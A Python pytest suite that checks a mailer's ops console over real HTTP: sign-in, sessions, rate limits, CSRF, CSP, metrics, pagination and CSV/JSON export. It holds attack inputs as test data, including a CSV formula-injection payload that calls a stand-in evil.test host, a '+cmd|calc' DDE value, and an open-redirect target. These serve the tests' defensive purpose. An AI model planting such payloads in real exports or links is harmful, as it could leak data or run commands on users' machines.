"""The ops console through real HTTP: httpx against uvicorn on 127.0.0.1 and a real SQLite file. Who may see it
(no password: 404; the form, sessions, expiry on the app's clock, sign-out, the failed sign-in limit, Basic on the
API, the metrics token), CSRF on every action, keyset pagination, and the formula-safe CSV export."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from mailer.clock import utcnow
from mailer.config import Config, load_config
from mailer.errors import ConfigError
from mailer.models import CampaignState, SuppressionReason
from mailer.passwords import hash_password
from mailer.store import Store
from mailer.subscriptions import add_subscriber
from mailer.web import create_app
from mailer.web.ops_auth import LOGIN_FAILURES, SESSION_COOKIE, SESSION_SECONDS
from tests.conftest import LiveWeb
from tests.synthetic import fill_campaign

PASSWORD = "correct horse battery staple"


@dataclass
class Console:
    url: str
    store: Store
    clock: list[timedelta]
    campaign: int

    def client(self) -> httpx.Client:
        return httpx.Client(base_url=self.url, follow_redirects=False, timeout=20)

    def sign_in(self, client: httpx.Client, user: str = "ops", password: str = PASSWORD) -> httpx.Response:
        form = client.get("/ops/login")
        assert form.status_code == 200
        token = re.search(r'name="form_token" value="([^"]+)"', form.text)
        assert token
        return client.post("/ops/login", data={"user": user, "password": password, "form_token": token.group(1)})

    @contextlib.contextmanager
    def signed_in(self) -> Iterator[httpx.Client]:
        with self.client() as client:
            assert self.sign_in(client).status_code == 303
            yield client


def _serve(config: Config, store: Store, **ops: str) -> Iterator[Console]:
    campaign = fill_campaign(store, "big", 1500)
    clock = [timedelta(0)]

    def make(url: str) -> object:
        return create_app(config.with_overrides(base_url=url, **ops), clock=lambda: utcnow() + clock[0])

    with LiveWeb(make) as live:
        yield Console(live.url, store, clock, campaign)


@pytest.fixture
def console(config: Config, store: Store) -> Iterator[Console]:
    yield from _serve(config, store, ops_password=PASSWORD, ops_metrics_token="scrape-me")


def csrf_of(page: httpx.Response) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert found, page.text[:500]
    return found.group(1)


# ---- off unless configured --------------------------------------------------------------------------------------


def test_without_a_password_everything_under_ops_is_404(config: Config, store: Store) -> None:
    for live in _serve(config, store):
        with live.client() as client:
            for path in ("/ops", "/ops/", "/ops/login", "/ops/api/campaigns", "/ops/metrics", "/ops/static/ops.js"):
                assert client.get(path).status_code == 404, path
            assert client.post("/ops/login", data={"user": "ops", "password": ""}).status_code == 404
            assert client.get("/ops/api/campaigns", auth=("ops", "")).status_code == 404
            assert client.get("/healthz").status_code == 200


# ---- signing in -------------------------------------------------------------------------------------------------


def test_pages_send_a_stranger_to_the_sign_in_form_and_back(console: Console) -> None:
    with console.client() as client:
        page = client.get(f"/ops/campaigns/{console.campaign}?status=failed")
        assert page.status_code == 303
        assert page.headers["location"] == f"/ops/login?next=%2Fops%2Fcampaigns%2F{console.campaign}%3Fstatus%3Dfailed"
        form = client.get(page.headers["location"])
        assert 'name="user"' in form.text and 'name="password"' in form.text and 'name="form_token"' in form.text
        token = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        nxt = re.search(r'name="next" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        done = client.post("/ops/login", data={"user": "ops", "password": PASSWORD, "form_token": token, "next": nxt})
        assert (
            done.status_code == 303 and done.headers["location"] == f"/ops/campaigns/{console.campaign}?status=failed"
        )
        cookie = next(
            v for k, v in done.headers.multi_items() if k == "set-cookie" and v.startswith(SESSION_COOKIE + "=")
        )
        assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/ops" in cookie
        assert f"Max-Age={SESSION_SECONDS}" in cookie and "Secure" not in cookie  # http base: not Secure
        assert client.get(done.headers["location"]).status_code == 200
    with console.client() as client:  # never to another site after sign-in
        form = client.get("/ops/login")
        token = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
        data = {"user": "ops", "password": PASSWORD, "form_token": token, "next": "//evil.test/ops/"}
        assert client.post("/ops/login", data=data).headers["location"] == "/ops/"


def test_a_wrong_password_gets_401_and_no_session(console: Console) -> None:
    with console.client() as client:
        for user, password in (("ops", "wrong"), ("admin", PASSWORD), ("ops", "")):
            answer = console.sign_in(client, user, password)
            assert answer.status_code == 401
            assert SESSION_COOKIE not in client.cookies
            assert not any(
                v.startswith(SESSION_COOKIE + "=") for k, v in answer.headers.multi_items() if k == "set-cookie"
            )
            assert "Wrong user or password" in answer.text or "用户名或密码不对" in answer.text
        assert client.get("/ops/").status_code == 303


def test_a_sign_in_without_the_forms_token_is_refused(console: Console) -> None:
    with console.client() as client:
        answer = client.post("/ops/login", data={"user": "ops", "password": PASSWORD})
        assert answer.status_code == 403 and SESSION_COOKIE not in client.cookies
        client.get("/ops/login")
        forged = client.post("/ops/login", data={"user": "ops", "password": PASSWORD, "form_token": "1.x.y"})
        assert forged.status_code == 403


def test_failed_sign_ins_are_limited_per_client(console: Console) -> None:
    with console.client() as client:
        for _ in range(LOGIN_FAILURES):
            assert console.sign_in(client, password="guess").status_code == 401
        assert console.sign_in(client).status_code == 429  # even the right password waits
        assert client.get("/ops/api/campaigns", auth=("ops", PASSWORD)).status_code == 429
        console.clock[0] = timedelta(minutes=16)  # the window has passed
        assert console.sign_in(client).status_code == 303


def test_a_session_expires_on_the_apps_clock_and_sign_out_ends_it(console: Console) -> None:
    with console.signed_in() as client:
        assert client.get("/ops/").status_code == 200
        console.clock[0] = timedelta(seconds=SESSION_SECONDS - 5)
        assert client.get("/ops/").status_code == 200
        console.clock[0] = timedelta(seconds=SESSION_SECONDS + 1)
        assert client.get("/ops/").status_code == 303
        assert client.get("/ops/api/campaigns").status_code == 401
    console.clock[0] = timedelta(0)
    with console.signed_in() as client:
        page = client.get("/ops/")
        stolen = client.cookies[SESSION_COOKIE]
        assert client.post("/ops/logout", data={}).status_code == 403  # sign-out is a form of ours too
        out = client.post("/ops/logout", data={"csrf": csrf_of(page)})
        assert out.status_code == 303 and out.headers["location"] == "/ops/login"
    with console.client() as other:  # the cookie's value, replayed after sign-out, is no session
        other.cookies.set(SESSION_COOKIE, stolen, path="/ops")
        assert other.get("/ops/").status_code == 303


def test_the_session_cookie_is_secure_under_https(config: Config, store: Store) -> None:
    app = create_app(config.with_overrides(ops_password=PASSWORD, base_url="https://news.example.org"))
    transport = httpx.ASGITransport(app=app)

    async def sign_in() -> str:
        async with httpx.AsyncClient(transport=transport, base_url="https://news.example.org") as client:
            form = await client.get("/ops/login")
            token = re.search(r'name="form_token" value="([^"]+)"', form.text).group(1)  # type: ignore[union-attr]
            done = await client.post("/ops/login", data={"user": "ops", "password": PASSWORD, "form_token": token})
            assert done.status_code == 303
            return next(
                v for k, v in done.headers.multi_items() if k == "set-cookie" and v.startswith(SESSION_COOKIE + "=")
            )

    import asyncio

    assert "Secure" in asyncio.run(sign_in())


def test_a_hash_from_ops_passwd_signs_in_and_a_bad_file_is_one_line(
    config: Config, store: Store, tmp_path: Path, run_cli
) -> None:  # type: ignore[no-untyped-def]
    made = run_cli("ops", "passwd", input="s3cret-pass\n")
    assert made.returncode == 0, made.stderr
    hashed = made.stdout.strip()
    assert hashed.startswith("$scrypt$ln=15,r=8,p=1$") and "s3cret-pass" not in made.stdout + made.stderr
    (tmp_path / "ops.hash").write_text(hashed + "\n")
    (tmp_path / "ops.hash").chmod(0o600)
    loaded = load_config({"MAILER_OPS_PASSWORD_FILE": str(tmp_path / "ops.hash")}, cwd=tmp_path)
    assert loaded.ops_password_hash == hashed and "s3cret" not in repr(loaded)
    (tmp_path / "bad.hash").write_text("s3cret-pass\n")
    (tmp_path / "bad.hash").chmod(0o600)
    with pytest.raises(ConfigError, match="not a mailer password hash"):
        load_config({"MAILER_OPS_PASSWORD_FILE": str(tmp_path / "bad.hash")}, cwd=tmp_path)
    bad = run_cli("doctor", env={"MAILER_OPS_PASSWORD_FILE": str(tmp_path / "bad.hash")})
    assert bad.returncode == 1 and bad.stderr.count("\n") == 1 and "MAILER_OPS_PASSWORD_FILE" in bad.stderr
    for live in _serve(config, store, ops_password_hash=hash_password("s3cret-pass", log_n=10)):
        with live.client() as client:
            assert live.sign_in(client, password="s3cret-pass").status_code == 303
        with live.client() as client:
            assert live.sign_in(client, password="s3cret-pasS").status_code == 401


def test_doctor_says_how_to_turn_the_console_on(store: Store, run_cli) -> None:  # type: ignore[no-untyped-def]
    off = run_cli("doctor")
    assert "ops console off (/ops/ answers 404); to turn it on: mailer ops passwd" in off.stdout
    on = run_cli("doctor", env={"MAILER_OPS_PASSWORD": PASSWORD, "MAILER_BASE_URL": "https://news.example.org"})
    assert "ok: ops console on at https://news.example.org/ops/ (user ops" in on.stdout


# ---- scripts: Basic auth and the metrics token ------------------------------------------------------------------


def test_scripts_use_basic_auth_on_the_api_but_not_on_pages(console: Console) -> None:
    with console.client() as client:
        bare = client.get("/ops/api/campaigns")
        assert bare.status_code == 401 and bare.headers["www-authenticate"].startswith('Basic realm="mailer ops"')
        assert client.get("/ops/api/campaigns", auth=("ops", "nope")).status_code == 401
        answer = client.get("/ops/api/campaigns", auth=("ops", PASSWORD))
        assert answer.status_code == 200 and answer.json()[0]["id"] == console.campaign
        assert set(answer.json()[0]) >= {"id", "issue", "list", "state", "counts", "total", "progress"}
        assert client.get("/ops/", auth=("ops", PASSWORD)).status_code == 303  # pages want a session (and CSRF)
        assert client.post(f"/ops/campaigns/{console.campaign}/pause", auth=("ops", PASSWORD)).status_code == 403


def test_metrics_in_prometheus_text_behind_auth_or_the_read_only_token(console: Console) -> None:
    with console.client() as client:
        assert client.get("/ops/metrics").status_code == 401
        assert client.get("/ops/metrics", headers={"authorization": "Bearer wrong"}).status_code == 401
        scraped = client.get("/ops/metrics", headers={"authorization": "Bearer scrape-me"})
        assert scraped.status_code == 200 and scraped.headers["content-type"].startswith("text/plain; version=0.0.4")
        # The token reads metrics only.
        assert client.get("/ops/api/campaigns", headers={"authorization": "Bearer scrape-me"}).status_code == 401
    counts = console.store.deliveries.counts(console.campaign)
    text = scraped.text
    assert f'mailer_deliveries{{status="sent"}} {counts["sent"]}\n' in text
    assert f'mailer_campaign_deliveries{{campaign="{console.campaign}",status="bounced"}} {counts["bounced"]}' in text
    assert f'mailer_campaign_state{{campaign="{console.campaign}",state="sending"}} 1' in text
    assert re.search(r'mailer_smtp_last_replies\{class="4xx"\} \d+', text)
    assert "# TYPE mailer_campaign_bounce_ratio gauge" in text and "mailer_complaints_total 0" in text
    assert 'mailer_subscribers{status="active"} 1500\n' in text
    with console.signed_in() as client:
        assert client.get("/ops/metrics").text.startswith("# HELP mailer_deliveries")


# ---- pages, CSP, CSRF and actions -------------------------------------------------------------------------------


def test_every_page_keeps_the_strict_csp_and_no_store(console: Console) -> None:
    with console.signed_in() as client:
        pages = ["/ops/", f"/ops/campaigns/{console.campaign}", "/ops/people?q=user1", "/ops/login", "/ops/nothing"]
        for path in pages:
            answer = client.get(path)
            csp = answer.headers["content-security-policy"]
            assert "script-src 'self'" in csp and "default-src 'none'" in csp and "unsafe-eval" not in csp, path
            assert answer.headers["cache-control"] == "no-store", path
            assert not re.search(r"<script(?![^>]*\bsrc=\"/ops/static/ops\.js\")", answer.text), path
        script = client.get("/ops/static/ops.js")
        assert script.status_code == 200 and script.headers["content-type"].startswith("text/javascript")
        assert "fetch(" in script.text and "innerHTML" not in script.text
        chinese = client.get("/ops/?lang=zh")
        assert "发送任务" in chinese.text and '<html lang="zh-CN">' in chinese.text
        assert "发送任务" in client.get("/ops/").text  # the choice is kept
        assert "Campaigns" in client.get("/ops/?lang=en").text


def test_an_action_without_the_csrf_field_is_403_and_changes_nothing(console: Console) -> None:
    with console.signed_in() as client:
        page = client.get(f"/ops/campaigns/{console.campaign}")
        url = f"/ops/campaigns/{console.campaign}/pause"
        assert client.post(url, data={}).status_code == 403
        assert client.post(url, data={"csrf": "0" * 32}).status_code == 403
        cross = client.post(url, data={"csrf": csrf_of(page)}, headers={"origin": "https://evil.test"})
        assert cross.status_code == 403
        assert console.store.campaigns.state(console.campaign) is CampaignState.SENDING
        assert console.store.audit.of_campaign(console.campaign) == []
        done = client.post(url, data={"csrf": csrf_of(page)})
        assert done.status_code == 303 and done.headers["location"] == f"/ops/campaigns/{console.campaign}"
        assert console.store.campaigns.state(console.campaign) is CampaignState.PAUSED
        [entry] = console.store.audit.of_campaign(console.campaign)
        assert entry.action == "pause" and entry.actor.startswith("ops (127.0.0.1)")
        shown = client.get(done.headers["location"])
        assert "paused: its sender stops taking recipients" in shown.text  # the note, once
        assert shown.text.count("ops (127.0.0.1)") == 1  # and the audit row
        again = client.post(url, data={"csrf": csrf_of(shown)})  # not sending any more: refused, said, not audited
        assert "only one being sent can be paused" in client.get(again.headers["location"]).text
        assert len(console.store.audit.of_campaign(console.campaign)) == 1
        assert (
            client.post(f"/ops/campaigns/{console.campaign}/explode", data={"csrf": csrf_of(shown)}).status_code == 404
        )


def test_retry_deferred_and_requeue_failed_from_the_page(console: Console) -> None:
    counts = console.store.deliveries.counts(console.campaign)
    with console.signed_in() as client:
        page = client.get(f"/ops/campaigns/{console.campaign}")
        client.post(f"/ops/campaigns/{console.campaign}/retry-deferred", data={"csrf": csrf_of(page)})
        after = console.store.deliveries.counts(console.campaign)
        assert "deferred" not in after and after["queued"] == counts["queued"] + counts["deferred"]
        client.post(f"/ops/campaigns/{console.campaign}/requeue-failed", data={"csrf": csrf_of(page)})
        after = console.store.deliveries.counts(console.campaign)
        assert "failed" not in after
        assert [a.action for a in console.store.audit.of_campaign(console.campaign)] == [
            "requeue-failed",
            "retry-deferred",
        ]


def test_the_person_page_lifts_a_suppression_and_unsubscribes(console: Console) -> None:
    store = console.store
    add_subscriber(store, "bulletin", "wang@example.org", "王")
    store.suppressions.suppress_address("wang@example.org", SuppressionReason.BOUNCED, "550 5.1.1 no such user")
    with console.signed_in() as client:
        page = client.get("/ops/people", params={"q": "WANG@example.org"})
        assert "550 5.1.1 no such user" in page.text and "bulletin" in page.text
        client.post("/ops/people/lift-suppression", data={"csrf": csrf_of(page), "email": "wang@example.org"})
        assert not store.suppressions.is_suppressed("wang@example.org")
        page = client.get("/ops/people", params={"q": "wang@example.org"})
        assert "suppression of wang@example.org lifted" in page.text
        answer = client.post(
            "/ops/people/unsubscribe", data={"csrf": csrf_of(page), "email": "wang@example.org", "list": "bulletin"}
        )
        assert answer.headers["location"] == "/ops/people?q=wang@example.org"
        assert store.subscribers.get(store.lists.get("bulletin").id, "wang@example.org").status == "unsubscribed"
        shown = client.get("/ops/people", params={"q": "wang@example.org"})
        assert ">ops<" in shown.text  # the unsubscribe's source
        assert [a.action for a in store.audit.of_address("wang@example.org")] == ["unsubscribe", "lift-suppression"]
        prefix = client.get("/ops/people", params={"q": "user1"})
        assert prefix.text.count('href="/ops/people?q=user1') == 20  # the first twenty matches
        one = client.get("/ops/people", params={"q": "user7@yahoo.com"})
        assert "250 2.0.0 Ok: queued as" in one.text or "Recipient address rejected" in one.text or "queued" in one.text


# ---- the deliveries table: pagination, filters, exports ---------------------------------------------------------


def test_the_api_pages_through_every_matching_delivery_by_keyset(console: Console) -> None:
    with console.client() as client:
        for params, where in (
            ({}, ""),
            ({"status": "failed"}, " AND status = 'failed'"),
            ({"domain": "qq.com"}, " AND email LIKE '%@qq.com'"),
            ({"domain": "qq.com", "status": "sent"}, " AND email LIKE '%@qq.com' AND status = 'sent'"),
        ):
            expected = [
                row[0]
                for row in console.store.conn.execute(
                    f"SELECT id FROM deliveries WHERE campaign_id = ?{where} ORDER BY id DESC", (console.campaign,)
                )
            ]
            url: str | None = f"/ops/api/campaigns/{console.campaign}/deliveries"
            query: dict[str, object] | None = {**params, "limit": 100}
            seen: list[int] = []
            while url:
                page = client.get(url, params=query, auth=("ops", PASSWORD)).json()
                assert page["matching"] == len(expected)
                seen += [d["id"] for d in page["deliveries"]]
                url, query = page["next"], None
            assert seen == expected, params


def test_the_campaign_page_pages_its_deliveries(console: Console) -> None:
    with console.signed_in() as client:
        first = client.get(f"/ops/campaigns/{console.campaign}", params={"domain": "163.com"})
        emails = re.findall(r'<td><a href="/ops/people\?q=[^"]+">([^<]+)</a>', first.text)
        assert len(emails) == 50 and all(e.endswith("@163.com") for e in emails)
        older = re.search(r'href="([^"]+)" rel="next"', first.text).group(1).replace("&amp;", "&")  # type: ignore[union-attr]
        second = client.get(older)
        more = re.findall(r'<td><a href="/ops/people\?q=[^"]+">([^<]+)</a>', second.text)
        assert len(more) == 50 and not set(more) & set(emails)
        assert "187 matching" in first.text or re.search(r"\(\d+ matching\)", first.text)


def test_the_csv_export_is_formula_safe_and_the_json_export_whole(console: Console) -> None:
    store = console.store
    store.conn.execute(
        "UPDATE deliveries SET smtp_reply = '=HYPERLINK(\"http://evil.test/?\"&A2,\"Click\")', status = 'failed' "
        "WHERE id = (SELECT MIN(id) FROM deliveries)"
    )
    store.conn.execute("UPDATE deliveries SET name = '+cmd|calc' WHERE id = (SELECT MIN(id) FROM deliveries)")
    with console.client() as client:
        url = f"/ops/api/campaigns/{console.campaign}/deliveries"
        exported = client.get(url, params={"status": "failed", "format": "csv"}, auth=("ops", PASSWORD))
        assert exported.headers["content-disposition"].endswith('.csv"')
        rows = list(csv.DictReader(io.StringIO(exported.text)))
        assert len(rows) == store.deliveries.counts(console.campaign)["failed"]
        evil = next(r for r in rows if "HYPERLINK" in r["smtp_reply"])
        assert evil["smtp_reply"].startswith("'=")
        for row in rows:
            assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())
        everything = client.get(url, params={"format": "json"}, auth=("ops", PASSWORD)).json()
        assert len(everything) == 1500 and len({d["id"] for d in everything}) == 1500
        assert (
            json.loads(client.get(url, params={"format": "json", "domain": "none.test"}, auth=("ops", PASSWORD)).text)
            == []
        )


def test_a_pause_from_the_console_outlives_the_server(config: Config, store: Store) -> None:
    lives = _serve(config, store, ops_password=PASSWORD)
    first = next(lives)
    with first.signed_in() as client:
        page = client.get(f"/ops/campaigns/{first.campaign}")
        client.post(f"/ops/campaigns/{first.campaign}/pause", data={"csrf": csrf_of(page)})
    lives.close()  # the server stops
    restarted = create_app(config.with_overrides(ops_password=PASSWORD, base_url="http://restarted.test"))
    with LiveWeb(lambda url: restarted) as live:
        again = Console(live.url, store, [timedelta(0)], first.campaign)
        with again.signed_in() as client:
            page = client.get(f"/ops/campaigns/{first.campaign}")
            assert 'data-field="state">paused<' in page.text
            assert 'value="resume"' in page.text and 'value="pause"' not in page.text  # the buttons
            assert "campaign 1 paused" in page.text  # the audit row, read back from the database
    assert store.campaigns.state(first.campaign) is CampaignState.PAUSED


def test_the_campaign_page_shows_its_audience_and_approvals(console: Console) -> None:
    store = console.store
    list_id, content_hash = store.conn.execute(
        "SELECT list_id, content_hash FROM campaigns WHERE id = ?", (console.campaign,)
    ).fetchone()
    store.approvals.add(list_id, content_hash, "issue.md", {}, "王编辑", "ok to send")
    with console.signed_in() as client:
        page = client.get(f"/ops/campaigns/{console.campaign}", params={"lang": "en"})
        assert "Audience: list big" in page.text
        assert "Approved by: 王编辑 (big," in page.text


def test_a_campaign_to_several_lists_names_them_all(console: Console) -> None:
    with console.client() as client:
        (first,) = client.get("/ops/api/campaigns", auth=("ops", PASSWORD)).json()
        assert first["lists"] == [first["list"]]
        with console.store.transaction():
            console.store.conn.execute(
                "UPDATE campaigns SET audience = ? WHERE id = ?",
                (json.dumps({"lists": [first["list"], "增刊"]}), console.campaign),
            )
        (again,) = client.get("/ops/api/campaigns", auth=("ops", PASSWORD)).json()
        assert again["list"] == first["list"] and again["lists"] == [first["list"], "增刊"]
    with console.signed_in() as client:
        assert f"<td>{first['list']}, 增刊</td>" in client.get("/ops/").text
